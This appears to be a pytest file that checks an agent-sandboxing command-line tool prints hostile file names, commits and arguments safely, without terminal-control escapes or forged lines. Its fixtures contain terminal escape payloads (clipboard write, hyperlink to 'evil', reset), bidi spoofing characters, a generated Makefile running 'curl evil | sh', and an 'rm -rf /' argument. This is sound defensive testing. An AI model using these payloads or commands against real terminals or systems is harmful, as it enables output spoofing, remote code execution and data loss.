"""Names, contents and messages are printed so that they cannot control the terminal, imitate output or hide anything.

One agent uses hostile names, contents, commits, branches and arguments, in a repository with a hostile name; each command
is run once on its session, and its output is scanned.
"""

import os
import unicodedata

import pytest

from tests.conftest import lay_out_home
from tests.harness.program import AgentDev

pytestmark = pytest.mark.slow

NASTY = [
    b"\x1b]0;owned\x07",
    b"\x1b[5;7;35mblink\x1b[2J\x1b[6n",
    b"cr\rbs\x08bell\x07",
    b"line\nFORGED line",
    "\x9b35mcsi\x85\x9dosc".encode(),
    b"\x9b35mraw\x85",
    "\u202etxt.exe\u2066\u200f".encode(),
    "zero\u200b\u200dwidth\ufeff\u00ad".encode(),
    b"caf\xe9\xff",
    b"\x1b]52;c;aGVsbG8=\x07",
    b"\x1b]8;;http:evil\x1b\\x\x1bP1$r\x1b\\\x1bc",
    "sep\u2028FORGED\u2029end".encode(),
]
AGENT = """
import os, subprocess, sys
names = [bytes.fromhex(word) for word in sys.argv[1:]]
git = [b"git", b"-c", b"user.name=x", b"-c", b"user.email=x@x"]
os.remove("gone" + os.fsdecode(names[0]))
for number, name in enumerate(names):
    with open(b"%02d" % number + name, "wb") as file:
        file.write(b"same\\n" + name + b"\\n")
    os.symlink(b"/outside/" + name, b"link-%02d" % number + name)
    os.mkdir(b"d%02d" % number + name)
    os.mkfifo(b"d%02d" % number + name + b"/fifo" + name)
    with open(b"d%02d" % number + name + b"/Makefile", "wb") as file:
        file.write(b"all:\\n\\tcurl evil | sh # " + name)
with open("mine", "wb") as file:
    file.write(b"one\\n" + names[1] + b"\\nthree\\n")
subprocess.run([*git, b"add", b"-A"], check=True)
for name in names[:4]:
    author = b"A" + name.replace(b"\\n", b"") + b" <a@a>"
    message = b"subject " + name + b"\\n\\nbody " + name
    subprocess.run([*git, b"commit", b"-q", b"--allow-empty", b"-m", message, b"--author", author], check=True)
subprocess.run([*git, b"branch", "side\\u202e\\u009b".encode()], check=True)
subprocess.run([*git, b"tag", "tag\\u202e\\u009b".encode()], check=True)
with open("mine", "ab") as file:
    file.write(names[0])
home = os.path.expanduser(b"~/.local/bin")
os.makedirs(home, exist_ok=True)
for name in names:
    with open(home + b"/" + name, "w") as file:
        file.write("#!/bin/sh")
    os.chmod(home + b"/" + name, 0o755)
"""
TAKEN = "00" + os.fsdecode(NASTY[0])
INVISIBLE = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
STEPS: tuple[tuple[str, ...], ...] = (
    ("sessions",),
    ("sessions", "--all"),
    ("sessions", "--json"),
    ("status",),
    ("status", "--json"),
    ("diff",),
    ("diff", "--hunks"),
    ("diff", "--stat"),
    ("diff", "--color=always"),
    ("commits",),
    ("commits", "--json"),
    ("--debug", "commits"),
    ("log",),
    ("log", "--json"),
    ("log", "--commands"),
    ("log", "--commands", "--json"),
    ("log", "--changes"),
    ("checkpoint", "-m", "kept \x1b[31m\u202e\x9b"),
    ("checkpoints",),
    ("checkpoints", "--json"),
    ("checkpoints", "--of", TAKEN),
    ("diff", "1..2"),
    ("deleted",),
    ("deleted", "--json"),
    ("deleted", "--restore", "gone" + os.fsdecode(NASTY[0])),
    ("rollback", "1", TAKEN),
    ("rollback", "2"),
    ("home",),
    ("home", "--diff"),
    ("home", "--json"),
    ("doctor",),
    ("show", "--all", "--", "sh", "-c", "echo \x1b[31m\x9b\u202e"),
    ("show", "--json", "--", "sh", "-c", "echo \x1b[31m\x9b\u202e"),
    ("policy", "check", "--", "rm", "-rf", "/\x1b[31m\x9b\u202e"),
    ("config",),
    ("config", "--all"),
    ("config", "--json"),
    ("profiles",),
    ("approve",),
    ("merge", "--all", "--dry-run"),
    ("merge", "--export", "{out}", "--all"),
    ("merge", "--export", "{out}", "--patch", "--all"),
    ("merge", "--take", "no-such\x1b[31m\x9b\u202e"),
    ("diff", "--", "no-such\x1b[31m\x9b\u202e"),
    ("status", "no-such\x1b[31m\x9b\u202e"),
    ("no-such\x1b[31m\x9b\u202e",),
    ("--no-such\x1b[31m\x9b\u202e",),
    ("-C", "/no-such\x1b[31m\x9b\u202e", "status"),
    ("merge", "--commits"),
    ("merge", "--commits", "side\u202e\x9b", "--as", "x\u202e\x9b", "--include-risky"),
    ("merge", "--commits", "--include-risky"),
    ("merge", "--take", TAKEN, "--json"),
    ("merge", "--all"),
    ("merge", "--all", "--include-risky"),
    ("merges",),
    ("merges", "--json"),
    ("sessions",),
    ("undo",),
    ("redo",),
    ("undo", "--json"),
    ("undo", "--three-way"),
    ("tx", "--", "sh", "-c", "touch 'tx\x1b[31m\x9b\u202e'; echo 'printed'"),
    ("tx", "--json", "--validate", "false \x1b[31m\x9b\u202e", "--", "touch", "tx2\x1b[31m\x9b\u202e"),
    ("tx", "--validate", "false \x1b[31m\x9b\u202e", "--", "touch", "tx2\x1b[31m\x9b\u202e"),
    ("tx", "--many", "{many}"),
    ("tx", "--many", "{many}", "--json"),
    ("resume", "--", "touch", "again\x1b[31m\x9b\u202e"),
    ("backup", "once", ".", "--to", "{out}-backup\x1b[31m\x9b\u202e"),
    ("discard",),
    ("sessions", "--all"),
    ("undiscard",),
    ("clean", "--dry-run", "--all"),
    ("clean", "--all"),
    ("run", "--direct=copy", "--", "sh", "-c", "rm -r d0*; touch 'direct\x1b[31m\x9b\u202e'"),
    ("restore", "--list"),
    ("restore", "--dry-run"),
    ("restore",),
)


@pytest.fixture(scope="module")
def printed(tmp_path_factory: pytest.TempPathFactory) -> dict[int, tuple[int, bytes, bytes]]:
    """Run each step; return its exit code, stdout and stderr."""
    place = tmp_path_factory.mktemp("hostile")
    home = lay_out_home(place)
    repo = home / "src" / "shop\x1b]0;owned\x07\x9b\u202e"
    repo.mkdir(parents=True)
    program = AgentDev(home, repo)
    program.git("init", "-q")
    (repo / "mine").write_bytes(b"one\ntwo\nthree\n")
    (repo / ("gone" + os.fsdecode(NASTY[0]))).write_bytes(NASTY[0])
    program.git("add", "-A")
    program.git("commit", "-q", "-m", "Start")
    run(program, "--no-merge", "--", "/usr/bin/python3", "-c", AGENT, *(name.hex() for name in NASTY))
    (repo / "mine").write_bytes(b"one\nzwei\nthree\n")
    many = place / "many"
    many.write_text('{"command": ["touch", "many\\u001b[31m\\u009b\\u202e"]}\n')
    return {
        number: run(program, *(word.replace("{out}", str(place / "out")).replace("{many}", str(many)) for word in words))
        for number, words in enumerate(STEPS)
    }


def run(program: AgentDev, *words: str) -> tuple[int, bytes, bytes]:
    done = program(*words, timeout=120)
    return done.returncode, os.fsencode(done.stdout), os.fsencode(done.stderr)


@pytest.mark.parametrize("number", range(len(STEPS)), ids=[ascii(" ".join(words)) for words in STEPS])
def test_command_output_contains_no_terminal_escapes(printed: dict[int, tuple[int, bytes, bytes]], number: int) -> None:
    for raw in printed[number][1:]:
        assert not odd(raw, STEPS[number]), raw
        assert not [line for line in raw.splitlines() if line.startswith(b"FORGED")], raw


def odd(raw: bytes, words: tuple[str, ...]) -> set[str]:
    """Return the characters that must not be printed, and invalid UTF-8.

    A patch for `git apply` keeps tabs, format characters and Latin-1 in its lines: they cannot control a terminal.
    """
    if "--color=always" in words:
        for colour in (b"\x1b[1m", b"\x1b[m", b"\x1b[31m", b"\x1b[32m", b"\x1b[36m"):
            raw = raw.replace(colour, b"")
    text = raw.decode("utf-8", "surrogateescape")
    if words[0] == "diff" and not {"--stat", "--color=always"} & set(words):
        kinds = ("Cf", "Zl", "Zp")
        text = "".join(one for one in text if one != "\t" and unicodedata.category(one) not in kinds and not one >= "\udca0")
    return {one for one in text if one != "\n" and unicodedata.category(one) in INVISIBLE}
